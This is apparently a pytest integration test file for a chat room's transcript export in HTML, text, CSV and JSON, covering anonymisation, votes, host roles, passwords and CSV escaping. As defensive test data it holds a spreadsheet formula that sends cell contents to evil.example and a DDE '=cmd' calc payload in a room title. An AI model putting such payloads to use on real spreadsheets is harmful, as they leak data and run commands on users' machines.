"""The transcript in each of its forms, opened by readers that know nothing of how it was written."""

from __future__ import annotations

import csv
import json
import re
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from io import StringIO

import httpx
import pytest

from tests.integration.web.filled import fill
from tests.support.client import Guest, Json, Venue, browser, make_room, new_id
from tests.support.house import House, eventually

MakeRoom = Callable[..., Venue]

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"look")'
SAID: list[Json] = [
    {"nickname": "Ada", "text": "Hello"},
    {"nickname": "Ada", "text": "Two\nlines, “quotes” and \"quotes\"; a comma, too?"},
    {"nickname": "=1+1", "text": FORMULA},
    {"nickname": "Zoë 🎓", "text": "👩🏽‍🏫 says <b>&amp;</b> 😬?"},
    {"nickname": "ليلى", "text": "هل تسمعني؟"},
    {"nickname": "Eve", "text": '"}],"messages":[{"text":"not mine"}'},
    {"nickname": "ada@example.social", "text": "seen elsewhere", "source": "mastodon", "url": "https://example.social/@ada/1"},
]  # fmt: skip
QUESTIONS = [line["text"] for line in SAID if line["text"].rstrip("😬 ")[-1] in "?؟"]
NAMES = [line["nickname"] for line in SAID if line["nickname"] != "=1+1"]
FORMS = ["", ".txt", ".csv", ".json"]


@pytest.fixture(scope="module")
def told(house: House) -> Iterator[Venue]:
    """A room in which people have written what is hard to write down."""
    with browser(house.base) as http:
        venue = make_room(house.base, http, title="=cmd|' /C calc'!A0")
        fill(house, venue.name, SAID)
        yield venue


class Entries(HTMLParser):
    """What stands in a page's entries, as a browser reads it."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.texts: list[str] = []
        self.inside = False
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if "data-text" in dict(attrs):
            self.inside = True
            self.texts.append("")

    def handle_endtag(self, tag: str) -> None:
        self.inside = self.inside and tag != "span"

    def handle_data(self, data: str) -> None:
        if self.inside:
            self.texts[-1] += data


def read(http: httpx.Client, venue: Venue, form: str, query: str = "") -> httpx.Response:
    answer = http.get(f"/{venue.name}/transcript{form}{query}")
    assert answer.status_code == 200, answer.text[:500]
    return answer


def rows(answer: httpx.Response) -> list[dict[str, str]]:
    return list(csv.DictReader(StringIO(answer.content.decode("utf-8-sig"), newline=""), strict=True))


def texts(http: httpx.Client, venue: Venue, form: str, query: str = "") -> list[str]:
    """What was said, as a file of this form has it."""
    answer = read(http, venue, form, query)
    match form:
        case ".json":
            return [message["text"] for message in answer.json()["messages"]]
        case ".csv":
            return [row["text"].removeprefix("'") for row in rows(answer)]
        case ".txt":
            paragraphs = answer.text.split("\n\n")[1:-1]
            return [re.sub("^    ", "", text.partition("\n")[2], flags=re.MULTILINE) for text in paragraphs]
    return Entries(answer.text).texts


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("names", ["", "nicknames=no"])
def test_every_form_has_all_that_was_said_or_the_questions(
    http: httpx.Client, told: Venue, form: str, names: str
) -> None:
    assert texts(http, told, form, f"?{names}") == [line["text"] for line in SAID]
    assert texts(http, told, form, f"?only=questions&{names}") == QUESTIONS


def test_a_table_is_what_the_standard_says(http: httpx.Client, told: Venue) -> None:
    answer = read(http, told, ".csv")
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert answer.content.startswith(b"\xef\xbb\xbfseq,at,nickname,text,source,url,votes,answered,role\r\n"), (
        "Excel needs the mark"
    )
    first, *_, last = rows(answer)
    plain = {"source": "", "url": "", "votes": "0", "answered": "", "role": ""}
    assert first == {"seq": "1", "at": first["at"], "nickname": "Ada", "text": "Hello", **plain}
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z", first["at"])
    assert (last["source"], last["url"]) == ("mastodon", "https://example.social/@ada/1")


def test_every_form_says_how_many_voted_and_what_is_answered(http: httpx.Client, venue: Venue) -> None:
    ada, grace = venue.join(), venue.join("Grace")
    asked = ada.say("Who pays?\n(99 votes)")
    ada.say("Nobody asked")
    for voter in (ada, grace):
        voter.call("POST", f"/messages/{asked['id']}/vote").raise_for_status()
    venue.host("POST", f"/messages/{asked['id']}/answer").raise_for_status()
    eventually(lambda: "Answered" in read(http, venue, "").text and "2 votes" in read(http, venue, "").text)
    assert read(http, venue, ".txt").text.count("\n    (99 votes)\n(2 votes · Answered)\n\n") == 1
    assert [(row["votes"], row["answered"]) for row in rows(read(http, venue, ".csv"))] == [("2", "yes"), ("0", "")]
    told = [(each.get("votes"), each.get("answered")) for each in read(http, venue, ".json").json()["messages"]]
    assert told == [(2, True), (None, None)]
    german = http.get(f"/{venue.name}/transcript.txt", headers={"Accept-Language": "de"}).text
    assert "\n(2 Stimmen · Beantwortet)\n" in german


def test_every_form_says_who_keeps_the_peace_where_no_nickname_can(http: httpx.Client, venue: Venue) -> None:
    joined = venue.host("POST", "/participants", json={"nickname": "Ms Hopper"}).json()
    Guest(venue, joined["participant"], joined["token"]).say("Good morning")
    venue.join("(Host) Ms Hooper").say("Homework is off\n(Host)")
    text = read(http, venue, ".txt").text
    assert text.count("  Ms Hopper\n    Good morning\n(Host)\n\n") == 1
    assert text.count("\n(Host)\n") == 1
    assert text.endswith("\n    Homework is off\n    (Host)\n\n")
    assert [row["role"] for row in rows(read(http, venue, ".csv"))] == ["host", ""]
    assert [each.get("role") for each in read(http, venue, ".json").json()["messages"]] == ["host", None]
    assert read(http, venue, "").text.count("data-role") == 1
    unnamed = "?nicknames=no"
    assert [row["role"] for row in rows(read(http, venue, ".csv", unnamed))] == ["", ""]
    assert [each.get("role") for each in read(http, venue, ".json", unnamed).json()["messages"]] == [None, None]
    assert "\n(Host)\n" not in read(http, venue, ".txt", unnamed).text
    assert "data-role" not in read(http, venue, "", unnamed).text


def test_no_cell_of_a_table_is_a_formula(http: httpx.Client, told: Venue) -> None:
    cells = [cell for row in rows(read(http, told, ".csv")) for cell in row.values()]
    assert f"'{FORMULA}" in cells
    assert "'=1+1" in cells
    assert [cell for cell in cells if cell.lstrip().startswith(("=", "+", "-", "@"))] == []


def test_a_document_has_the_room_and_its_messages_as_the_api_has_them(http: httpx.Client, told: Venue) -> None:
    answer = read(http, told, ".json")
    assert answer.headers["Content-Type"] == "application/json"
    document = answer.json()
    assert list(document) == ["room", "messages"]
    assert document["room"].keys() == told.now().keys() - {"pinned"}
    assert document["room"]["title"] == "=cmd|' /C calc'!A0"
    assert document["messages"] == told.call("GET", "/messages?limit=50").json()["messages"]


@pytest.mark.parametrize("form", FORMS)
def test_without_nicknames_no_form_tells_who_has_written_what(http: httpx.Client, told: Venue, form: str) -> None:
    archived = told.call("GET", "/messages?limit=50").json()["messages"]
    glyphs = {f">{message['glyph']['sign']}" for message in archived}
    ids = {message["participant_id"] for message in archived} | {message["id"] for message in archived}
    secrets = [*NAMES, *ids, *glyphs, "https://example.social/@ada/1", '"glyph"', "1+1</b>", "data-colour"]
    named, unnamed = read(http, told, form).text, read(http, told, form, "?nicknames=no").text
    assert all(name in named for name in NAMES)
    assert [secret for secret in secrets if secret in unnamed] == []
    assert "seen elsewhere" in unnamed


@pytest.mark.parametrize(
    ("query", "name"),
    [
        ("", "{}"),
        ("?nicknames=yes", "{}"),
        ("?only=questions", "{}-questions"),
        ("?nicknames=no", "{}-without-nicknames"),
        ("?nicknames=no&only=questions", "{}-questions-without-nicknames"),
    ],
)
@pytest.mark.parametrize("form", FORMS[1:])
def test_a_file_is_kept_under_a_name_that_says_what_is_in_it(
    http: httpx.Client, venue: Venue, form: str, query: str, name: str
) -> None:
    headers = read(http, venue, form, query).headers
    assert headers["Content-Disposition"] == f"attachment; filename={name.format(venue.name)}{form}"
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Cache-Control"] == "no-store"


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("query", ["only=answers", "only=Questions", "nicknames=maybe", "nicknames="])
def test_what_cannot_be_had_is_refused(http: httpx.Client, venue: Venue, form: str, query: str) -> None:
    answer = http.get(f"/{venue.name}/transcript{form}?{query}")
    assert answer.status_code == 422
    assert f"{query.partition('=')[0]}: has to be" in answer.text
    assert "Content-Disposition" not in answer.headers


@pytest.mark.parametrize("form", FORMS)
def test_a_room_without_messages_has_a_transcript_without_messages(http: httpx.Client, venue: Venue, form: str) -> None:
    assert texts(http, venue, form) == []
    assert texts(http, venue, form, "?only=questions") == []


def test_a_page_without_questions_says_so(http: httpx.Client, venue: Venue) -> None:
    venue.join().say("No question")
    assert "No questions yet." in read(http, venue, "", "?only=questions").text
    assert "Nothing was said" not in read(http, venue, "", "?only=questions").text


def test_the_page_links_to_the_forms_and_filters_that_fit_it(http: httpx.Client, venue: Venue) -> None:
    page = read(http, venue, "", "?only=questions&nicknames=no").text
    path = f"/{venue.name}/transcript"
    for link in (f"{path}.csv?only=questions&amp;nicknames=no", f"{path}?only=questions", f"{path}?nicknames=no"):
        assert f'href="{link}"' in page


@pytest.mark.parametrize("form", FORMS)
def test_a_password_stands_before_every_form(http: httpx.Client, a_room: MakeRoom, form: str) -> None:
    venue = a_room(password="open sesame")
    ada = venue.join(password="open sesame")
    ada.say("For those inside?")
    for query in ("", "?only=questions", "?nicknames=no"):
        closed = http.get(f"/{venue.name}/transcript{form}{query}")
        assert closed.status_code == 401
        assert "For those inside" not in closed.text
        assert "Content-Disposition" not in closed.headers
    headers = {"Authorization": f"Bearer {ada.token}"}
    assert "For those inside" in http.get(f"/{venue.name}/transcript{form}", headers=headers).text


@pytest.mark.parametrize("form", FORMS)
def test_a_room_that_nobody_has_made_has_none(http: httpx.Client, form: str) -> None:
    answer = http.get(f"/nobody-{new_id()[:8]}/transcript{form}")
    assert answer.status_code == 404
    assert "Content-Disposition" not in answer.headers


def test_what_a_removed_message_said_is_in_no_form(http: httpx.Client, venue: Venue) -> None:
    ada = venue.join()
    gone = ada.say("Never mind?")
    ada.say("Last?")
    venue.host("DELETE", f"/messages/{gone['id']}")
    venue.join("Grace").say("After that?")
    for form in FORMS:
        assert texts(http, venue, form) == ["Last?", "After that?"]
        assert json.dumps("Never mind")[1:-1] not in read(http, venue, form).text
